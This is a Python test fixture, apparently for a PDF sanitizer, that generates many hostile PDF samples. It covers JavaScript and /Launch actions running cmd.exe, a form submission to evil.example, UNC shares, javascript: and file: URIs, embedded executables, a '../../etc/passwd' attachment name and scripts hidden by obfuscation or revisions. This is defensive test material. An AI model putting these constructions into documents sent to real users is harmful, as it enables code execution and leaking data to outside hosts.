"""PDF files that run, open, send or carry something, in every place the format has for it."""

import io
import zlib
from functools import partial

import pikepdf

from tests.lib.files.bad_files.case import CARRIER, LINKED, LIVE, MEDIA, Bad, packed_pdf, raw_pdf, stream

PAD = b"\n%" + b"x" * 1200 + b"\n"  # what stands behind it is no longer at the head of the file
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LINK = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] %b >>]"
FORM = b"/AcroForm << /Fields [4 0 R] >>"

# An action → the sentence it is refused with.
ACTIONS = {
    "script": (SCRIPT, LIVE),
    "script in a stream": (b"<< /S /JavaScript /JS 9 0 R >>", LIVE),
    "script, hex name": (b"<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>", LIVE),
    "script, all hex": (b"<< /#53 /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (x) >>", LIVE),
    "script after a harmless step": (b"<< /S /Named /N /NextPage /Next " + SCRIPT + b" >>", LIVE),
    "script after a list of steps": (b"<< /S /GoTo /D [3 0 R /Fit] /Next [[ " + SCRIPT + b" ]] >>", LIVE),
    "program": (b"<< /S /Launch /F (calc.exe) >>", LIVE),
    "Windows program": (b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>", LIVE),
    "send the form": (b"<< /S /SubmitForm /F (http://evil.example/) >>", LIVE),
    "take in data": (b"<< /S /ImportData /F (data.fdf) >>", LIVE),
    "another file": (b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>", LIVE),
    "file within": (b"<< /S /GoToE /T << /R /C /N (a) >> >>", LIVE),
    "film": (b"<< /S /Movie /Operation /Play >>", LIVE),
    "sound": (b"<< /S /Sound /Sound 9 0 R >>", LIVE),
    "rendition": (b"<< /S /Rendition /OP 0 >>", LIVE),
    "rich media": (b"<< /S /RichMediaExecute >>", LIVE),
    "thread of another file": (b"<< /S /Thread /F (a.pdf) /D 0 >>", LINKED),
    "script address": (b"<< /S /URI /URI (javascript:alert\\(1\\)) >>", LINKED),
    "script address, tab": (b"<< /S /URI /URI (java\\tscript:alert\\(1\\)) >>", LINKED),
    "script address, hex": (b"<< /S /URI /URI <6a6176617363726970743a> >>", LINKED),
    "file address": (b"<< /S /URI /URI (file:///C:/Windows/a.exe) >>", LINKED),
    "data address": (b"<< /S /URI /URI (data:text/html,<b>1</b>) >>", LINKED),
    "network share": (b"<< /S /URI /URI (\\\\\\\\evil.example\\\\share) >>", LINKED),
    "address without a scheme": (b"<< /S /URI /URI (a.exe) >>", LINKED),
    "address that is no text": (b"<< /S /URI /URI 7 >>", LINKED),
}
# A place for an action → the PDF with the action there.
PLACES = {
    "on opening": lambda action: raw_pdf({9: stream(b"1")}, catalogue=b"/OpenAction " + action),
    "before closing": lambda action: raw_pdf({9: stream(b"1")}, catalogue=b"/AA << /WC %b >>" % action),
    "on a page": lambda action: raw_pdf({9: stream(b"1")}, page=b"/AA << /O %b >>" % action),
    "in a link": lambda action: raw_pdf({9: stream(b"1")}, page=LINK % (b"/A " + action)),
    "over a link": lambda action: raw_pdf({9: stream(b"1")}, page=LINK % (b"/AA << /E %b >>" % action)),
    "in a field": lambda action: raw_pdf(
        {4: b"<< /FT /Tx /T (a) /AA << /K %b >> >>" % action, 9: stream(b"1")}, catalogue=FORM
    ),
    "in a bookmark": lambda action: raw_pdf(
        {4: b"<< /First 5 0 R /Last 5 0 R >>", 5: b"<< /Title (a) /Parent 4 0 R /A %b >>" % action, 9: stream(b"1")},
        catalogue=b"/Outlines 4 0 R",
    ),
    "packed": lambda action: packed_pdf(
        zlib.compress(b"5 0 << /Type /Catalog /Pages 2 0 R /OpenAction %b >>" % action), b"/Filter /FlateDecode"
    ),
}  # fmt: skip


def saved(change, **how) -> bytes:
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        change(pdf)
        out = io.BytesIO()
        pdf.save(out, deterministic_id=True, **how)
    return out.getvalue()


def attached(name: str, data: bytes) -> bytes:
    def change(pdf):
        pdf.attachments[name] = data

    return saved(change)


def annotation(entries: bytes, objects=None) -> bytes:
    return raw_pdf(objects, page=b"/Annots [<< /Type /Annot /Rect [0 0 99 99] %b >>]" % entries)


def later(catalogue: bytes, *, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A harmless PDF and a second revision that is not."""
    first = raw_pdf()
    place = len(first)
    body = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R %b >>\nendobj\n" % catalogue
    table = b"xref\n1 1\n%010d 00000 n \n" % place
    back = first.rindex(b"xref\n0")
    tail = b"trailer\n<< /Size 4 /Prev %d %b >>\nstartxref\n%d\n%%%%EOF\n" % (
        back,
        trailer,
        place + len(body),
    )
    return first + body + table + tail


def mended(catalogue: bytes) -> bytes:
    """A script in the first revision that the second one took out: it still lies in the file."""
    first = raw_pdf({4: SCRIPT}, catalogue=catalogue)
    place, back = len(first), first.rindex(b"xref\n0")
    body = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n4 0 obj\nnull\nendobj\n"
    second = place + body.index(b"4 0 obj")
    table = b"xref\n1 1\n%010d 00000 n \n4 1\n%010d 00000 n \n" % (place, second)
    tail = b"trailer\n<< /Size 5 /Prev %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        back,
        place + len(body),
    )
    return first + body + table + tail


CARRIERS = {
    "attachment": partial(attached, "bang-luong.xlsx", b"PK"),
    "attached program": partial(attached, "a.exe", b"MZ"),
    "PDF in PDF": lambda: attached("a.pdf", raw_pdf(catalogue=b"/OpenAction " + SCRIPT)),
    "attachment with a path": partial(attached, "../../etc/passwd", b"x"),
    "file pinned on a page": lambda: annotation(b"/Subtype /FileAttachment"),
    "associated file": lambda: raw_pdf({4: b"<< /EF << /F 5 0 R >> >>", 5: stream(b"x")}, catalogue=b"/AF [4 0 R]"),
    "stray embedded file": lambda: raw_pdf({4: stream(b"MZ", b"/Type /EmbeddedFile")}),
    "embedded, hex name": lambda: raw_pdf({4: stream(b"MZ", b"/Type /Embedded#46ile")}),
    "names of files": lambda: raw_pdf(catalogue=b"/Names << /EmbeddedFiles << /Names [] >> >>"),
    "portfolio": lambda: raw_pdf(catalogue=b"/Collection << >> /Names << /EmbeddedFiles << /Names [] >> >>"),
}  # fmt: skip
MEDIA_FILES = {
    "film on a page": lambda: annotation(b"/Subtype /Movie /Movie << >>"),
    "sound on a page": lambda: annotation(b"/Subtype /Sound /Sound 4 0 R", {4: stream(b"x", b"/Type /Sound /R 8000")}),
    "screen": lambda: annotation(b"/Subtype /Screen"),
    "rich media": lambda: annotation(b"/Subtype /RichMedia"),
    "3D": lambda: annotation(b"/Subtype /3D /3DD 4 0 R", {4: stream(b"x", b"/Type /3D /Subtype /U3D")}),
    "3D with a script": lambda: raw_pdf({4: stream(b"x", b"/Type /3D /Subtype /PRC /OnInstantiate 5 0 R"), 5: stream(b"1")}),
    "PostScript": lambda: raw_pdf({4: stream(b"showpage", b"/Type /XObject /Subtype /PS")}),
}  # fmt: skip
OUTSIDE = {
    "content from outside": lambda: raw_pdf({4: stream(b"", b"/F (http://evil.example/a)")}, page=b"/Contents 4 0 R"),
    "content by a file specification": lambda: raw_pdf({4: stream(b"", b"/F << /FS /URL >>")}, page=b"/Contents 4 0 R"),
    "page borrowed from a file": lambda: raw_pdf({4: stream(b"", b"/Subtype /Form /BBox [0 0 1 1] /Ref << /F (a.pdf) /Page 0 >>")}),
    "associated address": lambda: raw_pdf({4: b"<< /Type /Filespec /FS /URL /F (http://evil.example/a.exe) >>"}, catalogue=b"/AF [4 0 R]"),
    "picture from outside (OPI)": lambda: raw_pdf({4: stream(b"", b"/Subtype /Image /Width 1 /Height 1 /OPI << /2.0 << /F (a.tif) >> >>")}),
    "font from outside": lambda: raw_pdf({4: stream(b"", b"/F (font.ttf)"), 5: b"<< /Type /FontDescriptor /FontFile 4 0 R >>"}),
    "whole document from outside": lambda: raw_pdf(catalogue=b"/Threads [<< /F (a.pdf) >>]"),
}  # fmt: skip
HIDDEN = {
    "named scripts": lambda: raw_pdf(catalogue=b"/Names << /JavaScript << /Names [(a) %b] >> >>" % SCRIPT),
    "XFA form": lambda: raw_pdf({4: stream(b"<xdp/>")}, catalogue=b"/AcroForm << /Fields [] /XFA 4 0 R >>"),
    "XFA form in parts": lambda: raw_pdf(catalogue=b"/AcroForm << /Fields [] /XFA [(template) (x)] >>"),
    "script in a later revision": lambda: later(b"/OpenAction " + SCRIPT),
    "script without a way to it": lambda: raw_pdf({4: SCRIPT}),
    "script by an indirect name": lambda: raw_pdf({4: b"<< /S 5 0 R >>", 5: b"/JavaScript"}, catalogue=b"/OpenAction 4 0 R"),
    "script beyond the stated size": lambda: raw_pdf({4: SCRIPT}, catalogue=b"/OpenAction 4 0 R", size=4),
    "script in a catalogue within the trailer": lambda: raw_pdf(trailer=b"/Root << /Type /Catalog /Pages 2 0 R /OpenAction %b >>" % SCRIPT),
    "script in nested lists": lambda: raw_pdf({4: b"[" * 50 + SCRIPT + b"]" * 50}),
    "script in a stream's dictionary": lambda: raw_pdf({4: stream(b"", b"/A " + SCRIPT)}),
    "rich media settings": lambda: raw_pdf({4: b"<< /RichMediaSettings << >> >>"}),
    "script and a pretended signature": lambda: raw_pdf({4: b"<< /Type /Sig /ByteRange [0 1 2 3] /Contents <00> >>"}, catalogue=b"/OpenAction " + SCRIPT),
    "script in a page of a template": lambda: raw_pdf({4: b"<< /Type /Template /AA << /O %b >> >>" % SCRIPT}, catalogue=b"/Names << /Templates << /Names [(a) 4 0 R] >> >>"),
}  # fmt: skip
TAKEN_OFF = {
    "author and title": (lambda: raw_pdf({4: b"<< /Author (Nguyen Van Mau) >>"}, trailer=b"/Root 1 0 R /Info 4 0 R"), b"Nguyen Van Mau"),
    "web page in a comment": (lambda: raw_pdf({4: b"null" + PAD + b"%<script>alert(1)</script>"}), b"<script"),
    "web page in the metadata": (lambda: raw_pdf({4: b"null" + PAD, 5: stream(b"<script>alert(1)</script>", b"/Type /Metadata")}, catalogue=b"/Metadata 5 0 R"), b"<script"),
    "base for all addresses": (lambda: raw_pdf(catalogue=b"/URI << /Base (javascript:) >>"), b"javascript"),
    "portfolio view": (lambda: raw_pdf(catalogue=b"/Collection << /View /T >>"), b"Collection"),
    "captured web page": (lambda: raw_pdf({4: b"<< /X (http://intranet.example) >>"}, catalogue=b"/SpiderInfo 4 0 R"), b"intranet"),
    "private data of a program": (lambda: raw_pdf({4: stream(b"#!/bin/sh")}, page=b"/PieceInfo << /A << /Private 4 0 R >> >>"), b"/bin/sh"),
    "hidden stream": (lambda: raw_pdf({4: stream(b"MZ program")}), b"MZ program"),
    "script of an earlier revision": (lambda: mended(b"/OpenAction 4 0 R"), b"alert"),
    "printing on opening": (lambda: raw_pdf(catalogue=b"/OpenAction << /S /Named /N /Print >>"), b"/Print"),
    "thumbnail": (lambda: raw_pdf({4: stream(b"old face", b"/Width 1 /Height 1 /BitsPerComponent 8")}, page=b"/Thumb 4 0 R"), b"old face"),
}  # fmt: skip
CASES = [
    *(
        Bad(f"{what}, {where}", partial(make, action), says)
        for where, make in PLACES.items()
        for what, (action, says) in ACTIONS.items()
        # In a packed catalogue object 9 is missing; a script without its text still has its name.
        if where in {"on opening", "in a link", "packed"} or what in {"script", "program", "script address"}
    ),
    *(Bad(name, make, CARRIER) for name, make in CARRIERS.items()),
    *(Bad(name, make, MEDIA) for name, make in MEDIA_FILES.items()),
    *(Bad(name, make, LINKED) for name, make in OUTSIDE.items()),
    *(Bad(name, make, LIVE) for name, make in HIDDEN.items()),
    *(Bad(name, make, None, (gone,)) for name, (make, gone) in TAKEN_OFF.items()),
]
